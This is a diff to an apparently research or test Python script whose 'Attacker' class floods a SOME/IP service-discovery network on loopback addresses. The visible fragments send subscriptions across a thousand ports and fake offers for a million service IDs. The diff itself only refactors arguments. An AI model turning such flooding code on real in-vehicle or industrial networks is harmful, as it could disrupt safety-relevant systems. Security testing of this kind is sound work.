@@ -10,7 +10,7 @@ import sys
 import time
 
 from desk import APPLICATION, GATEWAY, POSCTL, Desk, Positions
-from network import ENDLESS, NOTIFICATION, TP, discovery, endpoint, find, offer, someip, subscribe
+from network import NOTIFICATION, TP, discovery, endpoint, find, offer, someip, subscribe
 
 NETWORK = 167
 ATTACKER = f"127.{NETWORK}.0.66"
@@ -60,7 +60,7 @@ class Attacker:
                     time.sleep(ahead)  # the rate of the flood
 
     def subscribers(self, _):
-        wish = subscribe(POSITIONING, 1, 1, 3, ttl=ENDLESS)
+        wish = subscribe(POSITIONING, group=1, major=3)
         message = bytearray(discovery([wish], [endpoint(ATTACKER, 1)]))
         for port in range(10_000, 11_000):
             struct.pack_into("!H", message, len(message) - 2, port)
@@ -74,7 +74,7 @@ class Attacker:
 
     def offers(self, _):
         """A million service ids and instances."""
-        message = bytearray(discovery([offer(1, 1, 3, ttl=ENDLESS)] * 80, [endpoint(ATTACKER, 4000)]))
+        message = bytearray(discovery([offer(1, major=3)] * 80, [endpoint(ATTACKER, 4000)]))
         for first in range(0, 1_000_000, 80):
             for entry in range(80):
                 instance, service = divmod(first + entry, 0xFFF0)
